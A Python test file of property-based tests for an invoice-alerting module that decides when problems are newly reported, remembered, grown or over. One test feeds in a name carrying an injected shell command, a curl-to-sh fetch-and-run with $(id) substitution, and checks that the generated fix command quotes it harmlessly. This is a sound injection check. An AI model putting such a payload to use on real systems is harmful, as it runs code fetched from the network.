"""What is news: properties of the pure function."""

import shlex
from collections.abc import Iterable
from datetime import UTC, datetime
from math import log2
from uuid import UUID

from hypothesis import given, settings
from hypothesis import strategies as st

from outbox.commands.alert.news import GROWN_BY_AT_LEAST, News, Problem, Scene, Word, news
from outbox.commands.alert.news import scene as scene_of
from outbox.commands.health.findings import CouldNot, HealthSettings
from outbox.settings import load_settings
from outbox.store.alerts import REMEMBERED, DeadGroup, Told
from outbox.vocabulary import EntityType

NOW = datetime(2026, 1, 15, 8, tzinfo=UTC)


def dead(rows: Iterable[int], key: str = "dead:1") -> Problem:
    ids = tuple(UUID(int=row) for row in sorted(set(rows)))
    return Problem(key, "the tax is missing", len(ids), "invoice INV-1", "mend", EntityType.INVOICE, ids[:REMEMBERED])


def scene(*problems: Problem, untold: frozenset[str] = frozenset()) -> Scene:
    return Scene(problems, untold)


def remembered(told: dict[str, Told], lines: Iterable[News], seconds: float = 0.0) -> dict[str, Told]:
    """As the store keeps it."""
    kept = {
        key: Told(
            each.problem, each.said, each.entity_type, each.entity_ids, each.entities, each.told_seconds + seconds
        )
        for key, each in told.items()
    }
    for line in lines:
        if line.problem is None:
            del kept[line.key]
        else:
            problem = line.problem
            kept[line.key] = Told(
                problem.key, problem.said, problem.entity_type, frozenset(problem.entity_ids), problem.entities, seconds
            )
    return kept


sets = st.sets(st.integers(1, 60), max_size=40)
scenes = st.lists(st.dictionaries(st.sampled_from(["dead:1", "dead:2", "dead:3"]), sets), max_size=6)


def _scene(rows: dict[str, set[int]]) -> Scene:
    return scene(*(dead(ids, key) for key, ids in rows.items() if ids))


def test_a_name_that_somebody_else_chose_is_no_command_when_it_is_pasted() -> None:
    name = "NC-1; curl example.com | sh '$(id)'"
    ids = (UUID(int=1),)
    group = DeadGroup(EntityType.PAYMENT, "no tax", "1", 1, NOW, "no tax", ids, example=f"payment {name}")
    none = CouldNot("not read", "-")
    health = load_settings({"DATABASE_URL": "postgresql://127.0.0.1/host"}, required=HealthSettings)
    (problem,) = scene_of([group], none, none, none, health).problems
    assert problem.fix is not None
    command, _, _ = problem.fix.partition("; when mended: ")
    assert shlex.split(command) == ["zoho-outbox", "explain", "payment", name]


@given(scenes)
def test_nothing_is_told_twice(steps: list[dict[str, set[int]]]) -> None:
    told: dict[str, Told] = {}
    for rows in steps:
        now = _scene(rows)
        told = remembered(told, news(now, told, frozenset()))
        assert news(now, told, frozenset()) == ()


@given(scenes)
def test_what_is_remembered_stands_and_what_stands_is_known(steps: list[dict[str, set[int]]]) -> None:
    told: dict[str, Told] = {}
    for rows in steps:
        told = remembered(told, news(_scene(rows), told, frozenset()))
        assert set(told) == {key for key, ids in rows.items() if ids}


@given(scenes)
def test_after_a_day_nothing_stays_unsaid(steps: list[dict[str, set[int]]]) -> None:
    told: dict[str, Told] = {}
    for rows in steps:
        now = _scene(rows)
        told = remembered(told, news(now, told, frozenset()), seconds=90_000)
        told = remembered(told, news(now, told, frozenset()))
        for problem in now.problems:
            assert set(problem.entity_ids) <= told[problem.key].entity_ids


@settings(deadline=None, max_examples=20)
@given(st.integers(1, 3000))
def test_a_cause_that_grows_is_told_about_as_often_as_it_doubles(most: int) -> None:
    told: dict[str, Told] = {}
    times = 0
    for size in range(1, most + 1, max(most // 60, 1)):
        lines = news(scene(dead(range(1, size + 1))), told, frozenset())
        times += len(lines)
        told = remembered(told, lines)
    assert times <= 2 + log2(max(most, 2))


def test_exactly_five_more_are_much_of_a_few() -> None:
    told = remembered({}, news(scene(dead(range(3))), {}, frozenset()))
    assert news(scene(dead(range(3 + GROWN_BY_AT_LEAST - 1))), told, frozenset()) == ()
    (line,) = news(scene(dead(range(3 + GROWN_BY_AT_LEAST))), told, frozenset())
    assert (line.word, line.was, line.entities) == (Word.MORE, 3, 8)


def test_of_many_twice_as_many_are_much() -> None:
    told = remembered({}, news(scene(dead(range(100))), {}, frozenset()))
    assert news(scene(dead(range(199))), told, frozenset()) == ()
    assert [line.word for line in news(scene(dead(range(200))), told, frozenset())] == [Word.MORE]


def test_a_number_that_shrinks_is_no_news() -> None:
    told = remembered({}, news(scene(dead(range(100))), {}, frozenset()))
    assert news(scene(dead(range(1))), told, frozenset()) == ()


def test_of_what_could_not_be_read_nothing_is_over() -> None:
    told = remembered({}, news(scene(dead([1]), Problem("no_daemon", "nobody sends")), {}, frozenset()))
    assert news(scene(untold=frozenset({"dead:", "no_daemon"})), told, frozenset()) == ()
    assert [line.word for line in news(scene(), told, frozenset())] == [Word.OVER, Word.OVER]
